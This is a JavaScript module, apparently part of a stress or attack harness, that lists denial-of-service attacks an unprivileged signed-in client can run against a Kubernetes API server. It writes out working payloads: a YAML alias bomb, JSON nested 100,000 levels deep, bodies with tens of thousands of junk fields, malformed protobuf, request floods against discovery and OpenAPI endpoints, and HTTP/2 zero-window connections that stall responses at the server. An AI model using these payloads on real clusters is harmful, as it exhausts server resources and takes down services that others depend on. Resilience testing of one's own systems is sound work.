// What a person can try who may sign in and nothing else: discovery and reviews of themselves are open to everybody.
import http2 from 'node:http2';
import { flood } from './flood.mjs';

const REVIEWS = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews';
const JSON_BODY = { 'content-type': 'application/json' };
const YAML_BODY = { 'content-type': 'application/yaml' };
const review = (more = '') =>
  `{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{"nonResourceAttributes":{"path":"/","verb":"get"}}${more}}`;
const many = (count, make) => Array.from({ length: count }, (_, at) => make(at));
const post = (headers, body) => (attack) =>
  flood(attack, 8, (session) => session.call('POST', REVIEWS, { headers, body }));

const yamlBomb = many(9, (at) =>
  at === 0 ? 'a0: &a0 [x,x,x,x,x,x,x,x,x]' : `a${at}: &a${at} [${many(9, () => `*a${at - 1}`)}]`,
).join('\n');

/** Asks for thousands of answers over connections whose windows stay shut: whatever is sent waits at the server. */
async function readNothing(attack, path) {
  const { server, ca, cert, key } = attack.who;
  const open = () => http2.connect(server, { ca, cert, key, settings: { initialWindowSize: 0 } });
  const sessions = many(8, () => open().on('error', () => undefined));
  for (const session of sessions) {
    for (let at = 0; at < 900; at += 1) {
      const stream = session.request({ ':path': path });
      stream.on('response', ({ ':status': status }) => attack.count(status)).on('error', () => undefined);
    }
  }
  while (attack.goOn()) await attack.pause(200);
  for (const session of sessions) session.destroy();
}

export const identity = 'nobody';
export const attacks = {
  '12,000 unknown fields': post(JSON_BODY, review(`,${many(12_000, (at) => `"unknown${at}":1`)}`)),
  '12,000 unknown fields, strictly': (attack) =>
    flood(attack, 8, (session) =>
      session.call('POST', `${REVIEWS}?fieldValidation=Strict`, {
        headers: JSON_BODY,
        body: review(`,${many(12_000, (at) => `"unknown${at}":1`)}`),
      }),
    ),
  '12,000 fields given twice': post(JSON_BODY, review(`,${many(12_000, () => '"kind":"SelfSubjectAccessReview"')}`)),
  'Chinese fields nobody knows': post(JSON_BODY, review(`,${many(2000, (at) => `"未知${at}":1`)}`)),
  'JSON 100,000 levels deep': post(JSON_BODY, review(`,"x":${'['.repeat(100_000)}${']'.repeat(100_000)}`)),
  'JSON of 3 MB of small members': post(JSON_BODY, review(`,"x":{${many(200_000, (at) => `"${at}":{}`)}}`)),
  'YAML that multiplies': post(YAML_BODY, `${yamlBomb}\n${review()}`),
  'YAML of 3 MB': post(YAML_BODY, many(150_000, (at) => `key${at}: [1, 2]`).join('\n')),
  'YAML 20,000 levels deep': post(YAML_BODY, `a: ${'['.repeat(20_000)}${']'.repeat(20_000)}`),
  'protobuf of random bytes': post(
    { 'content-type': 'application/vnd.kubernetes.protobuf' },
    Buffer.concat([Buffer.from('k8s\0'), Buffer.alloc(2 * 1024 * 1024, 0x0a)]),
  ),
  'the OpenAPI document again and again': (attack) =>
    flood(attack, 16, (session) => session.call('GET', '/openapi/v2', { headers: { accept: 'application/json' } })),
  'discovery again and again': (attack) => flood(attack, 64, (session) => session.call('GET', '/apis')),
  'lists one may not see': (attack) => flood(attack, 64, (session) => session.call('GET', '/api/v1/pods?limit=500')),
  'documents of which nothing is read': (attack) => readNothing(attack, '/openapi/v2'),
  'short documents of which nothing is read': (attack) =>
    readNothing(attack, '/openapi/v3/apis/flowcontrol.apiserver.k8s.io/v1'),
  'documents that are not read to the end': (attack) =>
    flood(attack, 64, (session) => session.call('GET', '/openapi/v2', { leaveAfter: 1 })),
};
